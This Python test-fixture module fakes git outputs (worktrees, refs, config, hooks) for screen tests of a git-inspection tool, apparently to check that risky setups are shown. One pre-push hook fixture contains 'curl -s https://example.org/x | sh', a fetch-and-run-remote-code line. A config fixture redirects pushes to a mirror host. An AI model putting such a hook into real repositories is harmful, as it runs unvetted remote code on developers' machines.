"""Answers to looks at git, for pictures: what a script of ours prints.

Owns the form of such an answer and one small repository. Invariant: the text goes
through the real parsers, so a picture shows what git would have made it show.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Mapping

from state.git import plan, repository
from state.looks import Look, Looked
from tests.screens.stage import CWD, NOW

HEAD, OTHER, BASE = "a1b2c3d" * 5 + "a1b2c", "b" * 40, "c" * 40
WT = "/home/dev/src/parsecache-worktrees/fix-cache"
NOW_S = NOW // 1000


def said(sections: Mapping[str, str | bytes], *, bad: tuple[str, ...] = ()) -> Looked:
    """What a look prints; `bad`: sections whose command failed."""
    rows = []
    for name, text in sections.items():
        data = text.encode() if isinstance(text, str) else text
        data += b"\0rc=1" if name in bad else b"\0rc=0"
        rows.append(f"{name} {base64.b64encode(data).decode()}")
    return Looked(0, "\n".join(rows) + "\n")


def record(*fields: str) -> str:
    return "".join(f"{field}\0" for field in fields) + "\0"


def repo(
    *, more: bool = False, remotes: str = "origin\n", detached: bool = False
) -> dict[str, str]:
    """A repository: two commits on fix/cache in a worktree; `more`: and one on main."""
    where = "detached" if detached else "branch refs/heads/fix/cache"
    trees = record(f"worktree {CWD}", f"HEAD {OTHER}", "branch refs/heads/main")
    trees += record(f"worktree {WT}", f"HEAD {HEAD}", where)
    refs = [
        f"refs/heads/main\0{OTHER}\0refs/remotes/origin/main\0\0{NOW_S - 900}",
    ]
    if not detached:
        refs.insert(0, f"refs/heads/fix/cache\0{HEAD}\0\0\0{NOW_S - 60}")
    loose = f"{NOW_S - 60} {HEAD} {BASE}\n{NOW_S - 90} {BASE} {'d' * 40}\n"
    if more:
        loose += f"{NOW_S - 900} {OTHER} {'d' * 40}\n"
    return {
        "where": f"{CWD}/.git\n",
        "top": f"{WT}\n",
        "trees": trees,
        "refs": "\n".join(refs) + "\n",
        "remotes": remotes,
        "loose": loose,
        "touched": "",
    }


def config(*lines: tuple[str, str, str, str]) -> str:
    """(scope, file, key, value) of each line."""
    return "".join(f"{s}\0file:{f}\0{k}\n{v}\0" for s, f, k, v in lines)


LOCAL = f"{CWD}/.git/config"
USER = "/home/dev/.gitconfig"
CONFIG = "/home/dev/.ssh/config"
SSH = """Host *.acme.com
    ProxyJump bastion.acme.com
Match host github.com exec "nc -z ssh.github.com 443"
    ProxyCommand nc -X connect -x proxy.acme.com:3128 %h %p
Host *
    KnownHostsCommand /home/dev/src/parsecache/tools/known-hosts %H
"""
PLAIN = config(
    ("global", USER, "credential.helper", "store"),
    ("local", LOCAL, "remote.origin.url", "git@github.com:acme/parsecache.git"),
)
HUSKY = config(
    ("global", USER, "credential.helper", "!/home/dev/bin/keys"),
    ("local", LOCAL, "core.hookspath", ".husky/_"),
    ("local", LOCAL, "remote.origin.url", "https://github.com/acme/parsecache.git"),
    (
        "local",
        LOCAL,
        "url.https://mirror.example/.pushinsteadof",
        "https://github.com/",
    ),
)
ADDRESS = "git@github.com:acme/parsecache.git\n"
MIRROR = "https://mirror.example/acme/parsecache.git\n"
SCRIPT = "#!/bin/sh\nnpm test -- --run\ncurl -s https://example.org/x | sh\n"


def settings(*, husky: bool = False, lines: str = "", url: str = "") -> dict[str, str]:
    return {
        "config": lines or (HUSKY if husky else PLAIN),
        "hooks": f"{WT}/.husky/_\n" if husky else f"{CWD}/.git/hooks\n",
        "top": f"{WT}\n",
        "url0": url or (MIRROR if husky else ADDRESS),
        "url1": "git@github.com:dev/parsecache.git\n",
    }


def content(
    files: tuple[str, ...], *, husky: bool = False, behind: int = 0
) -> dict[str, str]:
    there = (f"{WT}/.husky/_/pre-push", f"{WT}/.husky/pre-push") if husky else ()
    facts = ""
    for number, path in enumerate(files):
        if path in there:
            at = NOW_S - 40 if number else NOW_S - 90_000
            facts += f"{path}\0file\0x\0{at}\0sum\0"
        else:
            facts += f"{path}\0-\0-\0000\0-\0"
    found = {
        "commits": f"commit {HEAD}\na1b2c3d\0dev\0Key the cache by strictness, too\n"
        f"commit {BASE}\nccccccc\0dev\0Show that a lenient tree answers strictly\n",
        "number": "2\n",
        "behind": f"{behind}\n",
        "files": "M\0parsecache/cache.py\0A\0tests/test_strict.py\0M\0docs/cache.md\0"
        "D\0docs/old-cache-notes.md\0",
        "state": "1 .M N... 100644 100644 100644 a b README.md\0? notes.txt\0",
        "facts": facts,
    }
    for number, path in enumerate(files):
        if path in there:
            found[f"text{number}"] = SCRIPT if "/_/" not in path else "#!/bin/sh\n. h\n"
    return found


def looks(
    first: Mapping[str, str] | Looked | None = None,
    *,
    husky: bool = False,
    behind: int = 0,
    ssh: str = "",
    **given: str,
) -> Callable[[Look], Looked | None]:
    """What each look of a board prints, told apart by its script."""

    def answer(asked: Look) -> Looked | None:
        script = asked.command[2]
        if script.endswith(repository.SCRIPT):
            return first if isinstance(first, Looked) else said(first or repo())
        if script.endswith(plan.SETTINGS):
            return said(settings(husky=husky, **given))
        if script.endswith(plan.SSH):
            text = f"{CONFIG}\0{ssh}"
            return said({"whole": "", **({"ssh0-0": text} if ssh else {})})
        files = asked.command[9:]
        return said(content(files, husky=husky, behind=behind))

    return answer
